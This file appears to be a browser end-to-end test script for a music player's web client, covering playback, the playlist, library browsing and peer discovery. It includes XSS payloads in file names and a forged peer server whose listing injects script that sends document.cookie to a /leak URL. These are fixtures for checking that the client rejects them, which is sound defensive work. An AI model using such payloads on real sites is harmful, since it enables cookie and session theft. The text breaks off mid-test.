// The browser client against the installed player: one Chromium, the main
// page driven by mouse and keyboard, every effect read back from the
// server ("consolestatus.xml", "getvolume", "playlist.xml" and the other
// query commands), with a shared folder of generated tracks whose names
// and tags are hostile or non-ASCII. Screenshots (desktop and phone) go to
// OUT_DIR. The library box and the library page are checked against the
// server's own "library.js", "stream" and "download" answers.
//
//   node web_client.js INSTALL_DIR OUT_DIR
//
// Loopback only: run inside tools/netns.sh. Needs playwright-core
// (NODE_PATH), /usr/bin/chromium and ffmpeg.
"use strict";

const fs = require("fs");
const dgram = require("dgram");
const http = require("http");
const path = require("path");
const { execFileSync } = require("child_process");
const pages = require("../webclient/browser/check_pages.js");

const installDir = path.resolve(process.argv[2] || "");
const outDir = path.resolve(process.argv[3] || ".");
const { sleep, until, freePort, startInstalledPlayer } = require("./support.js");

let passed = 0;
let failed = 0;
function verdict(name, failures, notes = []) {
  if (pages.report(name, { failures, notes })) passed++;
  else failed++;
}



// The shared folder: tracks of different lengths, a file whose name is
// markup, a title tag holding "]]>", and non-ASCII folder and file names.
const TRACKS = [
  ["Björk", "Jóga.mp3", 40, "Jóga"],
  ["Björk", "<img src=x onerror=alert(1)>.mp3", 30, "Close ]]> tag & <b>bold</b>"],
  ["東京事変", "群青日和.mp3", 50, "群青日和"],
];
// The library's own folder: lengths (so sizes) in another order than names.
const MIX = [["Mix", "Björk - Jóga.mp3", 20, "Jóga"], ["Mix", "<img src=x onerror=alert(1)>.mp3", 5, "Img"],
             ["Mix", "東京事変.mp3", 12, "Tokyo"]];

// The second player's library: a folder to browse and play from there.
const PEER = [["Peer Album", "Sigur Rós - Ágætis.mp3", 20, "Ágætis"], ["Peer Album", "Zwei.mp3", 10, "Zwei"]];
// A forged peer whose announced name (15 bytes at most) is markup. Its
// listing names a folder in markup and a folder "Trap", whose listing is
// followed by script that marks the page and sends its cookies home.
const HOSTILE_PEER = "\"</script>'<b>";
const HOSTILE_FOLDERS = ["<img src=x onerror=window.ranScript=1>", "Trap"];
function hostileListing(request) {
  const query = new URL(request.url, "http://x").searchParams;
  const enc = (text) => encodeURIComponent(text).replace(/[^A-Za-z0-9%]/g, (c) => "%" + c.charCodeAt(0).toString(16))
    .replace(/%[0-9A-F]{2}/g, (h) => h.toLowerCase());
  const cb = query.get("callback") || "";
  if (query.get("path") === "/Trap") {
    return cb + "({\"path\" : \"%2fTrap\",\n\"auth\" : \"\",\n\"files\" : [\n]});window.ranScript=1;" +
      "new Image().src='http://" + request.headers.host + "/leak?'+encodeURIComponent(document.cookie);";
  }
  return cb + "({\"path\" : \"\",\n\"auth\" : \"\",\n\"files\" : [\n" + HOSTILE_FOLDERS.map((name) =>
    "\n{\"name\" : \"" + enc(name) + "\",\"path\" : \"" + enc("/" + name) + "\",\"type\" : \"%24DIR%24\" }\n").join(",") +
    "]});";
}

function makeLibrary(root, tracks) {
  for (const [folder, file, seconds, title] of tracks) {
    fs.mkdirSync(path.join(root, folder), { recursive: true });
    execFileSync("ffmpeg", ["-loglevel", "error", "-y", "-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono", "-t",
                            String(seconds), "-b:a", "8k", "-metadata", "title=" + title, "-metadata",
                            "artist=Test Artist", path.join(root, folder, file)]);
  }
}

// One discovery announcement: type 1, a 16-byte id, the name in 15 bytes
// (zero-filled), state 1 (present), the HTTP port; multi-byte fields
// big-endian.
function announcement(id, name, port) {
  const packet = Buffer.alloc(38);
  packet[0] = 1;
  id.copy(packet, 1);
  Buffer.from(name, "latin1").copy(packet, 17, 0, 15);
  packet.writeUInt32BE(1, 32);
  packet.writeUInt16BE(port, 36);
  return packet;
}

// Starts the player installed in dir; extra: more settings lines.
function startPlayer(dir, sharedDir, extra, logName) {
  const settings = ["autoStart=1", "requirePassword=0", "Shared Dirs=" + sharedDir + ";"].concat(extra);
  return startInstalledPlayer(dir, { settings, log: path.join(outDir, logName) });
}

(async () => {
  fs.mkdirSync(outDir, { recursive: true });
  const shared = fs.mkdtempSync(path.join(process.env.TMPDIR || "/tmp", "tunelet-music-"));
  makeLibrary(shared, TRACKS.concat(MIX));
  // The peer: a second installed player listening on every address of the
  // namespace, since its place is the address its announcements come from.
  const peerDir = installDir + "-peer";
  fs.cpSync(installDir, peerDir, { recursive: true });
  const peerShared = fs.mkdtempSync(path.join(process.env.TMPDIR || "/tmp", "tunelet-peer-music-"));
  makeLibrary(peerShared, PEER);
  const [{ child, base }, peer] = await Promise.all([
    startPlayer(installDir, shared, ["listenIP=127.0.0.1", "NeedsIndex=1"], "player-web-client.log"),
    startPlayer(peerDir, peerShared, [], "player-web-client-peer.log")]);
  const forger = dgram.createSocket("udp4");
  await new Promise((resolve) => forger.bind(0, resolve));
  forger.setBroadcast(true);
  const forgedPort = await freePort();
  const forgedAsked = [];
  const forgedServer = http.createServer((request, response) => {
    forgedAsked.push({ url: request.url, headers: request.headers });
    // Like a player of an older version, it has no other listing.
    const listing = request.url.startsWith("/library.js?");
    const body = Buffer.from(listing ? hostileListing(request) : "");
    response.writeHead(listing ? 200 : 404, { "Content-Type": "text/javascript", "Content-Length": body.length });
    response.end(body);
  });
  await new Promise((resolve) => forgedServer.listen(forgedPort, "0.0.0.0", resolve));
  const forged = announcement(Buffer.from("f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff", "hex"), HOSTILE_PEER, forgedPort);
  const announce = () => forger.send(forged, 51515, "255.255.255.255");
  announce();
  const announcer = setInterval(announce, 2000);
  const watchdog = setTimeout(() => { child.kill("SIGKILL"); peer.child.kill("SIGKILL"); process.exit(1); }, 240000);
  const get = async (route) => (await (await fetch(base + "/" + route)).text());
  const status = async () => {
    const text = await get("consolestatus.xml");
    const field = (name) => ((new RegExp("<" + name + ">(?:<!\\[CDATA\\[)?([\\s\\S]*?)(?:\\]\\]>)?</" + name + "><"))
      .exec(text) || [])[1];
    return { volume: Number(field("volume")), shuffle: field("shuffle"), repeat: field("repeat"),
             position: Number(field("position")), filename: field("filename") };
  };
  const filenames = async () => {
    const n = Number(await get("getplaylistlength"));
    const names = [];
    for (let i = 0; i < n; i++) names.push(await get("getplaylistfilename?index=" + i));
    return names;
  };
  const files = TRACKS.map(([folder, file]) => path.join(shared, folder, file));

  const browser = await pages.launchBrowser();
  const errors = [];
  const dialogs = [];
  const watch = (page) => {
    page.on("pageerror", (err) => errors.push("uncaught: " + err.message));
    page.on("console", (msg) => {
      if (msg.type() !== "error") return;
      const where = pages.routeOf((msg.location() || {}).url || "");
      if (/status of 404/.test(msg.text()) && pages.DYNAMIC.has(where)) return; // a route not built yet
      errors.push("console: " + msg.text() + " (" + where + ")");
    });
    page.on("dialog", (d) => { dialogs.push(d.message()); d.dismiss(); });
  };
  try {
    for (const f of files) await get("enqueuefile?filename=" + encodeURIComponent(f) + "&title=");
    const context = await browser.newContext({ viewport: { width: 1000, height: 640 } });
    const page = await context.newPage();
    watch(page);
    await page.goto(base + "/");
    const rows = page.locator(".playlist [role=option]");
    await until(async () => (await rows.count()) === 3);

    // Hostile and non-ASCII names: shown as text, never as markup.
    {
      const f = [];
      const shown = await rows.allTextContents();
      if (!shown.some((t) => t.includes("Close ]]> tag & <b>bold</b>"))) f.push("the ]]> title is not shown as text: " + shown);
      if (!shown.some((t) => t.includes("群青日和")) || !shown.some((t) => t.includes("Jóga"))) f.push("non-ASCII titles missing: " + shown);
      if (await page.locator("img[src=x], .playlist b").count()) f.push("a name became markup");
      const names = await filenames();
      if (JSON.stringify(names) !== JSON.stringify(files)) f.push("playlist files " + JSON.stringify(names));
      verdict("hostile and non-ASCII names shown as text", f);
    }

    // Both status documents are valid UTF-8 and well-formed for a real XML
    // parser, even with a title holding a control byte and bytes that are
    // no UTF-8; the page still reads them.
    {
      const f = [];
      await get("enqueuefile?filename=" + encodeURIComponent(files[0]) + "&title=bad%01%FF");
      if (!(await until(async () => (await rows.count()) === 4))) f.push("the page did not read the fourth entry");
      for (const route of ["playlist.xml", "consolestatus.xml"]) {
        const bytes = Buffer.from(await (await fetch(base + "/" + route)).arrayBuffer());
        const text = bytes.toString("utf8");
        if (!Buffer.from(text, "utf8").equals(bytes)) f.push(route + " is not valid UTF-8");
        if (!text.startsWith('<?xml version="1.0" encoding="UTF-8"?>')) f.push(route + " starts " + text.slice(0, 40));
        const parsed = await page.evaluate((t) => {
          const doc = new DOMParser().parseFromString(t, "application/xml");
          const error = doc.getElementsByTagName("parsererror")[0];
          return error ? { error: error.textContent }
                       : { titles: Array.from(doc.getElementsByTagName("title"), (e) => e.textContent) };
        }, text);
        if (parsed.error) {
          f.push(route + " is not well-formed: " + parsed.error);
          continue;
        }
        const has = (part) => parsed.titles.some((t) => t.includes(part));
        if (route === "playlist.xml" && !(has("bad\uFFFD\uFFFD") && has("Jóga") && has("Close ]]> tag & <b>bold</b>"))) {
          f.push("playlist titles " + JSON.stringify(parsed.titles));
        }
      }
      await get("deleteplaylistitem?index=3");
      if (!(await until(async () => (await rows.count()) === 3))) f.push("the extra entry did not go");
      verdict("status documents are UTF-8 XML a parser accepts", f);
    }

    // Playing by double-click and Enter; the display follows the player.
    {
      const f = [];
      await rows.nth(1).dblclick();
      if (!(await until(async () => (await get("getplaylistpos")) === "1"))) f.push("double-click did not make entry 2 current");
      const start = (await status()).position;
      const moving = await until(async () => (await status()).position > start);
      if (!moving) f.push("nothing plays after the double-click");
      if (!(await rows.nth(1).getAttribute("class")).includes("playing")) f.push("entry 2 not marked playing");
      await rows.nth(2).click();
      await page.keyboard.press("Enter");
      if (!(await until(async () => (await get("getplaylistpos")) === "2"))) f.push("Enter did not play entry 3");
      const shown = await until(async () => (await page.textContent(".lcd-state")) === "Playing");
      if (!shown) f.push("the display says " + JSON.stringify(await page.textContent(".lcd-state")));
      verdict("double-click and Enter play an entry", f);
    }

    // The transport by keys z x c v b and by the console's buttons, checked
    // through the player's position; then the arrows seek.
    for (const [how, use] of [["keys z x c v b", (key, button) => page.keyboard.press(key)],
                              ["buttons", (key, button) => page.click(".hot." + button)]]) {
      const f = [];
      await page.focus("body");
      await use("z", "prev");
      if (!(await until(async () => (await get("getplaylistpos")) === "1"))) f.push("previous");
      await use("b", "next");
      if (!(await until(async () => (await get("getplaylistpos")) === "2"))) f.push("next");
      await use("v", "stop");
      if (!(await until(async () => (await status()).position === 0))) f.push("stop left the position moving");
      if (!(await until(async () => (await page.textContent(".lcd-state")) === "Stopped"))) f.push("display not Stopped");
      await use("x", "play");
      if (!(await until(async () => (await status()).position > 0))) f.push("play");
      // Pause acts on what the page shows: once it shows the playing.
      if (!(await until(async () => (await page.textContent(".lcd-state")) === "Playing"))) f.push("display not Playing");
      await use("c", "pause");
      let last = -1, same = 0; // held: five polls in a row read one position
      const still = await until(async () => {
        const p = (await status()).position;
        same = p === last ? same + 1 : 0;
        last = p;
        return p > 0 && same >= 5;
      });
      if (!still) f.push("pause did not hold the position");
      if (!(await until(async () => (await page.textContent(".lcd-state")) === "Paused"))) f.push("display not Paused");
      await use("c", "pause");
      if (!(await until(async () => (await status()).position > last))) f.push("a second pause did not play on");
      verdict("transport by " + how, f);
    }
    {
      const f = [];
      await page.focus("body");
      const before = (await status()).position;
      await page.keyboard.down("ArrowRight");
      await page.keyboard.up("ArrowRight");
      let after = 0;
      if (!(await until(async () => (after = (await status()).position) > before + 0.05))) f.push("the right arrow did not seek on");
      await page.keyboard.down("ArrowLeft");
      await page.keyboard.up("ArrowLeft");
      if (!(await until(async () => (await status()).position < after - 0.05))) f.push("the left arrow did not seek back");
      verdict("the arrows seek", f);
    }

    // Sliders, mute, shuffle and repeat, read back from the server.
    {
      const f = [];
      await page.evaluate(() => {
        const v = document.querySelector(".volume");
        v.value = "100";
        v.dispatchEvent(new Event("input", { bubbles: true }));
        v.dispatchEvent(new Event("change", { bubbles: true }));
      });
      if (!(await until(async () => (await get("getvolume")) === "100"))) f.push("volume slider: " + (await get("getvolume")));
      await page.click(".hot.mute");
      if (!(await until(async () => (await get("getvolume")) === "0"))) f.push("mute left volume " + (await get("getvolume")));
      await page.click(".hot.mute");
      if (!(await until(async () => (await get("getvolume")) === "100"))) f.push("unmute gave " + (await get("getvolume")));
      const shuffle = await get("getshuffle");
      await page.click(".hot.shuffle");
      if ((await page.getAttribute(".hot.shuffle", "aria-pressed")) !== (shuffle === "1" ? "false" : "true")) f.push("shuffle light not flipped at once");
      if (!(await until(async () => (await get("getshuffle")) !== shuffle))) f.push("shuffle unchanged on the server");
      const repeat = await get("getrepeat");
      await page.click(".hot.repeat");
      if (!(await until(async () => (await get("getrepeat")) !== repeat))) f.push("repeat unchanged on the server");
      await page.evaluate(() => {
        const s = document.querySelector(".seek");
        s.value = "5000";
        s.dispatchEvent(new Event("input", { bubbles: true }));
        s.dispatchEvent(new Event("change", { bubbles: true }));
      });
      if (!(await until(async () => Math.abs(Number(await get("getposition")) - 0.5) < 0.05))) f.push("seek slider: position " + (await get("getposition")));
      await page.click(".hot.pl");
      if (!(await page.locator("#playlistBox.hidden").count())) f.push("playlist button did not hide the box");
      await page.click(".hot.pl");
      verdict("volume, mute, shuffle, repeat, seek and the box buttons", f);
    }

    // Reorder by drag, a second page getting the whole list, delete, clear.
    {
      const f = [];
      await rows.nth(0).dragTo(rows.nth(2), { targetPosition: { x: 20, y: 18 } });
      const moved = await until(async () => (await filenames())[2] === files[0]);
      if (!moved) f.push("drag did not move entry 1 to the end: " + JSON.stringify(await filenames()));
      const second = await context.newPage();
      watch(second);
      await second.goto(base + "/");
      if (!(await until(async () => (await second.locator(".playlist [role=option]").count()) === 3))) f.push("a second page did not get the list");
      await second.close();
      await until(async () => (await rows.count()) === 3);
      await rows.nth(0).click();
      await page.keyboard.press("ArrowDown");   // the selection moves to entry 2
      await page.keyboard.press("Delete");
      if (!(await until(async () => (await get("getplaylistlength")) === "2"))) f.push("Delete left " + (await get("getplaylistlength")));
      if (JSON.stringify(await filenames()) !== JSON.stringify([files[1], files[0]])) f.push("Delete left " + JSON.stringify(await filenames()));
      await page.click(".pl-clear");
      if (!(await until(async () => (await get("getplaylistlength")) === "0"))) f.push("clear left entries");
      if (!(await until(async () => (await rows.count()) === 0))) f.push("the cleared list still shows rows");
      verdict("drag to reorder, two pages, arrow and Delete, clear", f);
    }

    // 10,000 entries: a screen of rows is drawn, the last one after a
    // scroll to the end, and a refresh of the unchanged list (dirty="0")
    // changes nothing on the page.
    {
      const f = [];
      const ENTRIES = 10000;
      for (let at = 0; at < ENTRIES; at += 1000) {
        let lines = "";
        for (let i = at; i < at + 1000; i++) lines += "Entry " + i + "\t" + files[i % files.length] + "\n";
        await fetch(base + "/enqueueplaylist", { method: "POST", body: "playlist=" + encodeURIComponent(lines),
                                                 headers: { "Content-Type": "application/x-www-form-urlencoded" } });
      }
      if ((await get("getplaylistlength")) !== String(ENTRIES)) f.push("the player holds " + (await get("getplaylistlength")));
      const count = () => page.textContent("#playlistBox .count");
      if (!(await until(async () => (await count()).startsWith(ENTRIES + " tracks"), 30000))) f.push("the count says " + (await count()));
      if ((await rows.count()) > 100) f.push("the page holds " + (await rows.count()) + " rows");
      await page.$eval(".playlist", (l) => { l.scrollTop = l.scrollHeight; });
      const lastRow = () => page.$$eval(".playlist [role=option]", (r) => r.length ? r[r.length - 1].querySelector(".num").textContent +
                                                                     r[r.length - 1].querySelector(".title").textContent : "");
      if (!(await until(async () => (await lastRow()) === ENTRIES + ".Entry " + (ENTRIES - 1)))) f.push("the last row reads " + (await lastRow()));
      const refreshed = () => page.waitForResponse((r) => /\/playlist\.xml/.test(r.url()), { timeout: 60000 });
      // The polled refresh is what this case looks at: the event stream,
      // while open, stops it.
      await page.evaluate(() => { if (typeof Live !== "undefined" && Live.source) { Live.source.close(); Live.open = false; } });
      await refreshed(); // one refresh to consume the change
      // The entries' lengths arrive a page at a time for the total; the
      // case looks at refreshes once they are all in.
      const factsIn = () => page.evaluate(() => { const p = Live.playlist; return !p.factsBusy && p.tracks.every((t) => t.facts); });
      if (!(await until(factsIn, 30000))) f.push("the entries' lengths never all arrived");
      await page.evaluate(() => {
        window.listChanges = 0;
        new MutationObserver((m) => { window.listChanges += m.length; })
          .observe(document.getElementById("playlistBox"), { childList: true, subtree: true, characterData: true, attributes: true });
      });
      await refreshed();
      await refreshed(); // the one before has surely been drawn by now
      const changes = await page.evaluate(() => window.listChanges);
      if (changes) f.push(changes + " change(s) to the box");
      await get("clearplaylist");
      if (!(await until(async () => (await rows.count()) === 0))) f.push("the cleared list still shows rows");
      verdict("10,000 entries drawn a screen at a time; a refresh of the unchanged list redraws nothing", f);
    }

    // The library box against the server's own listing ("files.js", which
    // the box reads, where the server has it, else "library.js"; a peer's
    // through "library.js"): the shared folder, a folder's files, sorting,
    // back and forward, the up entry's play-all putting the folder's exact
    // paths in the playlist.
    const mix = MIX.map(([folder, file]) => path.join(shared, folder, file));
    const listing = async (raw, by = 0, dir = 0, at = base) => {
      const query = "?path=" + raw + "&sortby=" + by + "&sortdir=" + dir;
      let answer = at === base ? await fetch(at + "/files.js" + query) : null;
      if (!answer || answer.status === 404) answer = await fetch(at + "/library.js" + query);
      const text = await answer.text();
      const data = JSON.parse(text.slice(text.indexOf("{"), text.lastIndexOf("}") + 1));
      // The shared folders (path "") show by their folder name.
      return (data.files || []).filter((e) => decodeURIComponent(e.type) !== "$UP$")
        .map((e) => ({ name: raw ? decodeURIComponent(e.name) : path.basename(decodeURIComponent(e.name)), raw: e.path }));
    };
    const names = (entries) => JSON.stringify(entries.map((e) => e.name));
    const ml = (p) => p.locator("#libraryBox .ml-list");
    let seen = "";
    const shownIn = async (p, want) => until(async () => {
      seen = JSON.stringify(await ml(p).locator("li:not(.up) .name").allTextContents());
      return seen === want;
    });
    const open = (p, name) => ml(p).locator("li.dir", { hasText: name }).locator("[data-act=open]").click();
    let mixRaw = "";
    {
      const f = [];
      const root = await listing("");
      if (root.length !== 1) f.push("the shared folders: " + names(root));
      if (!(await shownIn(page, names(root)))) f.push("the box does not list the shared folder");
      await open(page, root[0].name);
      const folders = await listing(root[0].raw);
      if (names(folders) !== JSON.stringify(["Björk", "Mix", "東京事変"])) f.push("the shared folder holds " + names(folders));
      if (!(await shownIn(page, names(folders)))) f.push("entering the shared folder did not list its folders");
      mixRaw = (folders.find((e) => e.name === "Mix") || {}).raw;
      await open(page, "Mix");
      const byName = await listing(mixRaw);
      if (!(await shownIn(page, names(byName)))) f.push("Mix is not listed by name: " + names(byName));
      const bySize = await listing(mixRaw, 2, 0);
      if (names(bySize) === names(byName)) f.push("sizes sort like names: " + names(bySize));
      const size = page.locator("#libraryBox .ml-heads [data-sort='2']");
      await size.click();
      if (!(await shownIn(page, names(bySize)))) f.push("the Size head did not sort by size");
      await size.click();
      const down = await listing(mixRaw, 2, 1);
      if (names(down) !== JSON.stringify(bySize.map((e) => e.name).reverse())) f.push("size descending: " + names(down));
      if (!(await shownIn(page, names(down)))) f.push("a second click did not turn the order");
      if (await page.locator("img[src=x]").count()) f.push("a listed name became markup");
      // The box keeps its order (size, descending) for every listing.
      await page.click("#libraryBox .ml-back");
      if (!(await shownIn(page, names(await listing(root[0].raw, 2, 1))))) f.push("back did not return to the shared folder: " + seen);
      await page.click("#libraryBox .ml-forward");
      if (!(await shownIn(page, names(down)))) f.push("forward did not return to Mix");
      await get("clearplaylist");
      await until(async () => (await rows.count()) === 0);
      await ml(page).locator("li.up [data-act=play]").click();
      const want = JSON.stringify(down.map((e) => path.join(shared, "Mix", e.name)));
      if (!(await until(async () => JSON.stringify(await filenames()) === want))) f.push("play-all gave " + JSON.stringify(await filenames()));
      if (!(await until(async () => (await rows.count()) === 3))) f.push("the playlist box did not show the folder");
      if (await page.locator("img[src=x]").count()) f.push("a playlist name became markup");
      verdict("library: shared folder, folder, sort, back and forward, play-all", f);
    }

    // Search and folder search, once the index built at start answers.
    {
      const f = [];
      const term = encodeURIComponent("search://jóga");
      if (!(await until(async () => (await listing(term)).length > 0, 60000))) f.push("the index never answered jóga");
      await page.fill("#libraryBox .ml-query", "jóga");
      await page.press("#libraryBox .ml-query", "Enter");
      const hits = await listing(term, 2, 1);
      if (!hits.some((e) => e.name === "Björk - Jóga.mp3")) f.push("search jóga found " + names(hits));
      if (!(await shownIn(page, names(hits)))) f.push("the box does not show the search answer " + names(hits) + " but " + seen);
      await page.check("#libraryBox .ml-folders");
      await page.fill("#libraryBox .ml-query", "mix");
      await page.press("#libraryBox .ml-query", "Enter");
      const dirs = await listing(encodeURIComponent("searchf://mix"), 2, 1);
      if (names(dirs) !== JSON.stringify(["Mix"])) f.push("folder search mix found " + names(dirs));
      if (!(await shownIn(page, names(dirs)))) f.push("the box does not show the folder search answer");
      await page.click("#libraryBox .ml-back");
      if (!(await shownIn(page, names(hits)))) f.push("back did not return to the search: " + seen);
      verdict("library: search and folder search", f);
    }

    // Library places: favorites.js (this player, the peer and the forged
    // peer named in markup) in one menu sorted by name, every name as text.
    // Browsing the peer goes through this player's "peerlibrary.js"; the
    // browser sends nothing to another host. Its folder's play button puts
    // the peer's download URLs into the local playlist, which plays them.
    // The forged peer's folders list as text; its listing that carries
    // script is refused, nothing runs, no cookie or session id reaches it.
    {
      const f = [];
      const elsewhere = [];
      const ownHost = new URL(base).host;
      const onAnyRequest = (r) => { if (new URL(r.url()).host !== ownHost) elsewhere.push(r.url()); };
      page.on("request", onAnyRequest);
      // Asked from the page, as the client asks: with the session cookie,
      // repeated in JSON_auth.
      const favorites = async () => {
        const text = await page.evaluate(async () => {
          const session = (/(?:^|; )Tunelet=([^;]*)/.exec(document.cookie) || [])[1] || "";
          return (await fetch("/favorites.js?callback=f&JSON_auth=" + session)).text();
        });
        return Object.values(JSON.parse(text.slice(2, -2)));
      };
      const heard = (all, port) => all.find((v) => v.host.endsWith(":" + port));
      const known = await until(async () => {
        const all = await favorites();
        return heard(all, peer.port) && heard(all, forgedPort) && all;
      });
      const place = known && heard(known, peer.port);
      const hostile = known && heard(known, forgedPort);
      if (!place || !hostile) f.push("favorites.js lists " + JSON.stringify(await favorites()));
      const menu = page.locator(".menu:not(.hidden)");
      const choose = async (name) => {
        await page.click("#libraryBox .ml-places");
        const item = menu.locator(".menu-item", { hasText: name });
        if (await item.count()) return item.first().click();
        f.push("the menu offers no " + name);
        return page.keyboard.press("Escape");
      };
      browse: if (place && hostile) {
        // The page reads favorites.js when the library box shows, which may
        // have been before the peers were heard: a fresh page reads it anew.
        await page.reload();
        let labels = [];
        await until(async () => {
          await page.click("#libraryBox .ml-places");
          labels = await menu.locator(".menu-label").allTextContents();
          if (labels.includes(place.name) && labels.includes(hostile.name)) return true;
          await page.keyboard.press("Escape");
          return false;
        });
        for (const want of ["Local Library", place.name, hostile.name]) {
          if (!labels.includes(want)) f.push("the menu lacks " + JSON.stringify(want) + ": " + JSON.stringify(labels));
        }
        const sorted = labels.slice().sort((x, y) => x.localeCompare(y));
        if (JSON.stringify(labels) !== JSON.stringify(sorted)) f.push("the menu is not sorted: " + JSON.stringify(labels));
        if (await page.locator(".menu b, body > b").count()) f.push("a peer name became markup");
        await page.keyboard.press("Escape");

        const asked = [];
        const onRequest = (r) => { if (r.url().includes("library.js?")) asked.push(r.url()); };
        page.on("request", onRequest);
        await choose(place.name);
        const peerRoot = await listing("", 2, 1, peer.base);
        const listed = await shownIn(page, names(peerRoot));
        page.off("request", onRequest);
        if (!listed) {
          f.push("the peer's shared folders are not listed: " + seen);
          break browse;
        }
        const url = asked.map((u) => new URL(u)).find((u) => u.pathname === "/peerlibrary.js");
        if (!url || url.searchParams.get("host") !== place.host) f.push("no peerlibrary.js asked for " + place.host + ": " + JSON.stringify(asked));
        if ((await page.textContent("#libraryBox .ml-host")) !== place.name) f.push("the host shown is not the peer's name");

        await open(page, peerRoot[0].name);
        if (!(await shownIn(page, JSON.stringify(["Peer Album"])))) {
          f.push("the peer's folder is not listed: " + seen);
          break browse;
        }
        await get("clearplaylist");
        await ml(page).locator("li.dir", { hasText: "Peer Album" }).locator("[data-act=play]").click();
        const want = PEER.map(([folder, file]) => path.join(peerShared, folder, file));
        let got = [];
        const downloads = await until(async () => {
          got = await filenames();
          return got.length === want.length && got.every((name, i) => name.startsWith("http://" + place.host + "/download?") &&
                                                           new URL(name).searchParams.get("path") === want[i]);
        });
        if (!downloads) f.push("the local playlist holds " + JSON.stringify(got));
        else if (!(await until(async () => { const st = await status(); return st.filename === got[0] && st.position > 0; }))) {
          f.push("the peer's song does not play: " + JSON.stringify(await status()));
        }
        await until(async () => (await rows.count()) === want.length);
        await page.screenshot({ path: path.join(outDir, "client-desktop-peer.png") });

        // The peer's folder saved as a place ("favs"), listed beside the
        // discovered ones, chosen from the local library, then deleted.
        const saved = async () => JSON.parse(decodeURIComponent(((await context.cookies(base))
          .find((c) => c.name === "favs") || { value: "[]" }).value));
        await page.click("#libraryBox .ml-save");
        const favs = await saved();
        if (favs.length !== 1 || favs[0].host !== place.host || decodeURIComponent(favs[0].path) !== peerShared) {
          f.push("the saved places are " + JSON.stringify(favs));
          break browse;
        }
        await choose("Local Library");
        await until(async () => (await page.textContent("#libraryBox .ml-host")) === "Local Library");
        await choose(favs[0].name);
        if (!(await shownIn(page, JSON.stringify(["Peer Album"])))) f.push("the saved place did not lead to the peer's folder: " + seen);
        await page.click("#libraryBox .ml-places");
        await menu.locator("li", { hasText: favs[0].name }).locator(".menu-delete").click();
        if ((await saved()).length) f.push("the place was not deleted: " + JSON.stringify(await saved()));
        await page.click("#libraryBox .ml-places");
        if (await menu.locator("li", { hasText: favs[0].name }).count()) f.push("the menu still offers the deleted place");
        await page.keyboard.press("Escape");

        await choose(hostile.name);
        if (!(await shownIn(page, JSON.stringify(HOSTILE_FOLDERS)))) f.push("the forged peer's folders are not listed: " + seen);
        // Without the tag listings it keeps to its folders, with no error.
        const probed = await until(async () => forgedAsked.some((r) => r.url.startsWith("/years.js")) &&
                                               !(await page.evaluate((h) => JsonRequest.pending("probe " + h), hostile.host)));
        if (!probed || await page.isVisible("#libraryBox .ml-views") || await ml(page).locator("li.ml-message").count()) {
          f.push("a peer without the tag listings: probed " + probed + ", views or an error shown");
        }
        await open(page, "Trap");
        if (!(await until(async () => (await ml(page).locator("li.ml-message").count()) === 1))) {
          f.push("the forged listing with script was not refused: " + seen);
        }
        const session = ((await context.cookies(base)).find((c) => c.name === "Tunelet") || {}).value;
        if (await page.evaluate(() => window.ranScript)) f.push("the forged peer's script ran");
        if (await page.locator("img[src=x]").count()) f.push("a forged folder name became markup");
        // Its listings, and once whether it has the tag views (years.js).
        const leaked = forgedAsked.filter((r) => r.headers.cookie || !/^\/(library|years)\.js\?/.test(r.url) ||
                                           (session && JSON.stringify(r).includes(session)));
        if (!forgedAsked.length || leaked.length) f.push("the forged peer was asked " + JSON.stringify(forgedAsked));
        if ((await context.cookies(base)).some((c) => c.name === "mlHost" && decodeURIComponent(c.value) === hostile.host)) {
          f.push("mlHost keeps the forged peer selected");
        }
      }
      page.off("request", onAnyRequest);
      if (elsewhere.length) f.push("the browser asked other hosts: " + JSON.stringify(elsewhere));
      await choose("Local Library");
      if (!(await until(async () => (await page.textContent("#libraryBox .ml-host")) === "Local Library"))) {
        f.push("Local Library did not come back");
      }
      verdict("places: favorites.js and saved places in one menu; a peer browsed and its folder played; " +
              "a forged peer's listing read as data", f);
    }

    // Single rows, with non-ASCII and markup names: play, enqueue, enqueue
    // next, and a library row dragged onto the playlist at a position; the
    // player holds exactly those paths and plays the one chosen.
    {
      const f = [];
      await get("clearplaylist");
      await until(async () => (await rows.count()) === 0);
      const root = await listing("");
      await shownIn(page, names(root));
      await open(page, root[0].name);
      await shownIn(page, names(await listing(root[0].raw, 2, 1)));
      const row = (name) => ml(page).locator("li.file", { hasText: name });
      const playing = async (file) => until(async () => { const st = await status(); return st.filename === file && st.position > 0; });
      const holds = async (want) => until(async () => JSON.stringify(await filenames()) === JSON.stringify(want));
      const [joga, img, tokyo] = files;
      await open(page, "東京事変");
      await shownIn(page, JSON.stringify(["群青日和.mp3"]));
      await row("群青日和").locator("[data-act=play]").click();
      if (!(await holds([tokyo]))) f.push("play gave " + JSON.stringify(await filenames()));
      if (!(await playing(tokyo))) f.push("群青日和 does not play: " + JSON.stringify(await status()));
      await page.click("#libraryBox .ml-back");
      await open(page, "Björk");
      await until(async () => (await ml(page).locator("li.file").count()) === 2);
      await row("<img").locator("[data-act=enqueue]").click();
      if (!(await holds([tokyo, img]))) f.push("enqueue gave " + JSON.stringify(await filenames()));
      await row("Jóga").locator("[data-act=next]").click();
      if (!(await holds([tokyo, joga, img]))) f.push("enqueue next gave " + JSON.stringify(await filenames()));
      await until(async () => (await rows.count()) === 3);
      await row("Jóga").dragTo(rows.nth(2), { targetPosition: { x: 20, y: 3 } });
      if (!(await holds([tokyo, joga, joga, img]))) f.push("the drop before entry 3 gave " + JSON.stringify(await filenames()));
      await row("Jóga").locator("[data-act=play]").click();
      if (!(await playing(joga))) f.push("Jóga does not play: " + JSON.stringify(await status()));
      if (!(await until(async () => (await page.textContent(".lcd-track")).includes("JÓGA")))) f.push("the display shows " + (await page.textContent(".lcd-track")));
      if (await page.locator("img[src=x]").count()) f.push("a name became markup");
      verdict("single rows: play, enqueue, enqueue next and drop at a position, non-ASCII names", f);
    }

    // A page of another origin (127.0.0.2) tries the commands by image,
    // script, form, fetch and a stream whose peer URL is a command: every
    // request it makes here is refused, nothing changes and nothing is read,
    // while this server's own page keeps working. A command's answer opened
    // as a page is text: the markup file name stays text.
    {
      const f = [];
      await get("setvolume?level=100");
      await get("setshuffle?setting=off");
      await get("enqueuefile?filename=" + encodeURIComponent(files[1]));
      const player = async () => {
        const { volume, shuffle, repeat } = await status();
        return JSON.stringify([volume, shuffle, repeat, await filenames()]);
      };
      const before = await player();
      const at = base + "/";
